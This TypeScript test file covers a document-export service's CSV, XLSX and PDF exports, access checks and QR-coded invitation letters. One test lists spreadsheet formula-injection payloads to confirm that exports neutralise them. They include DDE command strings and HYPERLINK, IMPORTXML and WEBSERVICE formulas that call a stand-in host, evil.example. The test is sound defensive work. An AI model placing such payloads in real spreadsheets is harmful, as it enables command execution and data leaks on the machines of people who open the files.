import * as childProcess from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import jsQR from 'jsqr';
import { readSheet } from 'read-excel-file/universal';
import { extractImages, extractText, getDocumentProxy } from 'unpdf';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import * as z from 'zod';
import { csvOf, harmlessText } from '../../functions/documents/render/csv.ts';
import { pdfOf } from '../../functions/documents/render/pdf.ts';
import { xlsxOf } from '../../functions/documents/render/xlsx.ts';
import type { Sheet } from '../../functions/documents/render/sheet.ts';
import { bundle } from '../../infra/constructs/bundle.ts';
import { exportMembers } from '../../shared/contracts/documents.ts';
import { coordinator, operator, representative } from '../builders/actor.ts';
import { gathering } from '../builders/cluster.ts';
import { clusterId, firstDay, innOf, personId } from '../builders/ids.ts';
import { confirmed, founder, invited } from '../builders/member.ts';
import { httpEvent, originSecret } from '../fakes/http-event.ts';
import { fieldOf } from '../fakes/field-of.ts';
import { type Platform, startApi } from '../fakes/start-api.ts';

let engine: Awaited<ReturnType<typeof startApi>>;
let platform: Platform;
beforeAll(async () => {
  engine = await startApi();
});
afterAll(() => engine.stop());
beforeEach(async () => {
  platform = await engine.fresh();
});

const execFile = promisify(childProcess.execFile);
const path = { clusterId: clusterId() };
const fontFolder = 'node_modules/dejavu-fonts-ttf/ttf';
const opened = (bytes: Uint8Array) => getDocumentProxy(Uint8Array.from(bytes));
const textOf = async (bytes: Uint8Array) =>
  (await extractText(await opened(bytes), { mergePages: true })).text.replaceAll(/\s+/g, ' ');
const pagesOf = async (bytes: Uint8Array) => (await extractText(await opened(bytes), { mergePages: false })).text;
const tables = ['exportMembers', 'exportLedger'] as const;

describe.each(tables)('%s', (name) => {
  beforeEach(async () => {
    await platform.given.participants(1, 4);
    await platform.given.operator();
    await platform.given.cluster(gathering(), [founder(), confirmed(2), invited(3)]);
  });
  const ask = (format: string, more: object = {}) =>
    platform.api.call(name, { by: coordinator(), path, query: { format }, ...more });

  it('404 for whoever is not in it, 400 for a format that we do not write', async () => {
    expect((await ask('csv', { by: representative(4) })).status).toBe(404);
    expect((await ask('doc')).body).toMatchObject({ code: 'invalid-request' });
  });

  it('CSV as a Russian Excel opens it, also for operators', async () => {
    const { bytes, headers } = await ask('csv', { by: operator() });
    expect(String(headers['content-disposition'])).toContain("filename*=UTF-8''");
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows: unknown = parse(bytes, { bom: true, delimiter: ';' });
    expect(rows).toMatchObject([
      { 0: 'Организация', 1: 'ИНН' },
      { 0: 'ООО «Пример 1»', 1: innOf(1), 2: 'основатель' },
      { 0: 'ООО «Пример 2»', 1: innOf(2), 2: 'участник' },
      { 0: 'ООО «Пример 3»', 1: innOf(3) },
    ]);
  });

  it('XLSX with the INN as a text, in English', async () => {
    const { bytes } = await ask('xlsx', { headers: { 'accept-language': 'en' } });
    const rows = await readSheet(Uint8Array.from(bytes).buffer);
    expect(rows).toContainEqual(expect.arrayContaining(['Organisation', 'INN']));
    expect(rows).toContainEqual(expect.arrayContaining(['ООО «Пример 2»', innOf(2), 'participant']));
  });

  it('PDF whose Russian text can be searched', async () => {
    const { bytes } = await ask('pdf');
    const text = await textOf(bytes);
    for (const word of ['Организация', 'ООО «Пример 2»', innOf(3), 'По состоянию на', 'страница 1 из 1'])
      expect(text).toContain(word);
  });
});

describe('exportReport', () => {
  const ask = (submission: string, more: object = {}) =>
    platform.api.call('exportReport', {
      by: operator(),
      path: { ...path, submission },
      query: { format: 'pdf' },
      ...more,
    });

  it('404 for others and for no report; with the hash of the report', async () => {
    await platform.given.participants(1, 31);
    await platform.given.operator();
    await platform.given.review();
    expect((await ask('1', { by: representative(31) })).status).toBe(404);
    expect((await ask('7')).status).toBe(404);
    const read = await platform.api.call('readReport', { by: operator(), path: { ...path, submission: '1' } });
    const text = await textOf((await ask('1')).bytes);
    expect(text).toContain(z.string().parse(fieldOf(read.body, 'reportHash')));
    expect(text).toContain('Отчёт о проверке заявки');
    const csv = await ask('1', { query: { format: 'csv' }, headers: { 'accept-language': 'en' } });
    expect(csv.bytes.toString()).toContain('What was checked');
  });
});

describe('printLetter', () => {
  beforeEach(async () => {
    await platform.given.participants(1, 2);
    await platform.given.cluster(gathering(), [founder(), confirmed(2)]);
  });
  const write = async () => {
    const body = { inn: innOf(50), message: 'Нам нужен ваш стенд' };
    const answer = await platform.api.call('writeLetter', { by: coordinator(), path, body });
    const link = z.string().parse(fieldOf(answer.body, 'link'));
    return { link, token: link.split('#').at(-1) };
  };
  const print = (token: string | undefined, more: object = {}) =>
    platform.api.call('printLetter', { by: coordinator(), path: { ...path, letterId: '6' }, body: { token }, ...more });

  it('404 for others, for another token and for no letter', async () => {
    const { token } = await write();
    expect((await print(token, { by: representative(2) })).status).toBe(404);
    expect((await print('A'.repeat(43))).status).toBe(404);
    expect((await print(token, { path: { ...path, letterId: '99' } })).status).toBe(404);
  });

  it('a page in Russian and one in English; a phone reads the link from the code', async () => {
    const { link, token } = await write();
    const { bytes } = await print(token);
    const [russian = '', english = ''] = await pagesOf(bytes);
    expect(russian.replaceAll(/\s+/g, ' ')).toMatch(/Приглашение в межотраслевой кластер.*Нам нужен ваш стенд/);
    expect(english).toContain('How to accept');
    expect(russian).toContain(innOf(50));
    const [image] = await extractImages(await opened(bytes), 1);
    if (image === undefined) throw new Error('there is no code on the page');
    const rgba = new Uint8ClampedArray(image.width * image.height * 4);
    for (let pixel = 0; pixel < image.width * image.height; pixel++)
      for (let channel = 0; channel < 4; channel++)
        rgba[pixel * 4 + channel] =
          channel < 3 || image.channels === 4
            ? (image.data[pixel * image.channels + Math.min(channel, image.channels - 1)] ?? 0)
            : 255;
    expect(jsQR.default(rgba, image.width, image.height)?.data).toBe(link);
  });

  it('409 when it was used, revoked or has run out', async () => {
    const { token } = await write();
    platform.api.now = new Date(firstDay.getTime() + 31 * 86_400_000);
    expect((await print(token)).body).toMatchObject({ code: 'invitation-expired' });
    await platform.api.call('revokeLetter', { by: coordinator(), path: { ...path, letterId: '6' } });
    expect((await print(token)).body).toMatchObject({ code: 'wrong-status', state: 'revoked' });
  });
});

const sheet = (rows: Sheet['rows']): Sheet => ({
  language: 'ru',
  title: 'Состав кластера',
  facts: ['По состоянию на сегодня'],
  fileName: 'x',
  columns: [
    { title: 'Организация', width: 2 },
    { title: 'Почему', width: 3 },
  ],
  rows,
});

const payloads = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("https://evil.example";"Отчёт")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  '+cmd|" /C calc"!A0',
  '+79991234567',
  '-1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '@A1',
  '|cmd',
  '%0A=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   +1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  "'=1+1",
  'x;=1+1',
  'x\n=1+1',
  'x";"=1+1',
  'x\t=1+1',
];

describe('a table', () => {
  it('that holds formulas comes back as texts, from CSV and from XLSX', async () => {
    const rows = payloads.map((text) => [text, 'да']);
    const read = z.array(z.array(z.string())).parse(parse(csvOf(sheet(rows)), { bom: true, delimiter: ';' }));
    expect(read.slice(1).map(([cell]) => cell)).toEqual(payloads.map(harmlessText));
    for (const [cell = ''] of read.slice(1)) expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@|%＝＋－＠]/u);
    const book = await readSheet(Uint8Array.from(await xlsxOf(sheet(rows))).buffer, { trim: false });
    const plain = (text: unknown) => String(text).replaceAll('\r', '');
    expect(book.slice(3).map(([cell]) => plain(cell))).toEqual(payloads.map(plain));
  });

  it('of five hundred rows breaks over pages, each with its heading and number', async () => {
    const rows = Array.from({ length: 500 }, (_, n) => [`Организация ${n}`, 'Длинное объяснение '.repeat(n % 9)]);
    const bytes = await pdfOf(sheet(rows), { at: firstDay, fontFolder });
    const pages = await pagesOf(bytes);
    expect(pages.length).toBeGreaterThan(10);
    for (const [index, page] of pages.entries()) {
      expect(page).toContain('Почему');
      expect(page).toContain(`страница ${index + 1} из ${pages.length}`);
    }
    for (const n of [0, 250, 499]) expect(pages.some((page) => page.includes(`Организация ${n}`))).toBe(true);
  });

  it('is tagged and says its language, for readers that speak', async () => {
    const bytes = Buffer.from(await pdfOf(sheet([['Завод', 'считается']]), { at: firstDay, fontFolder }));
    const source = bytes.toString('latin1');
    expect(source).toContain('/StructTreeRoot');
    expect(source).toMatch(/\/Lang \(ru-RU\)/);
    const { info } = z
      .object({ info: z.object({ Title: z.string() }) })
      .parse(await (await opened(bytes)).getMetadata());
    expect(info.Title).toBe('Состав кластера');
  });
});

describe('the bundle', () => {
  it('draws a document with the fonts that lie beside it', async () => {
    await platform.given.participants(1, 2);
    await platform.given.cluster(gathering(), [founder(), confirmed(2)]);
    const output = mkdtempSync(join(tmpdir(), 'documents-bundle-'));
    bundle('documents', output);
    const claims = { sub: personId(1), token_use: 'access' };
    const event = httpEvent(exportMembers, { path, query: { format: 'pdf' }, claims });
    const run = `require('./index.js').handler(${JSON.stringify(event)}, {}).then(({ body }) => process.stdout.write(body));`;
    const env = {
      TABLE_NAME: platform.main.name,
      ORIGIN_SECRET: originSecret,
      PORTAL_URL: 'https://clusters.example',
      FONT_FOLDER: fontFolder,
      AWS_REGION: 'eu-central-1',
      AWS_ACCESS_KEY_ID: 'test',
      AWS_SECRET_ACCESS_KEY: 'test',
      AWS_ENDPOINT_URL_DYNAMODB: platform.main.endpoint,
    };
    const { stdout } = await execFile(process.execPath, ['-e', run], { cwd: output, env, maxBuffer: 10_000_000 });
    expect(await textOf(Buffer.from(stdout, 'base64'))).toContain('ООО «Пример 2»');
  });
});
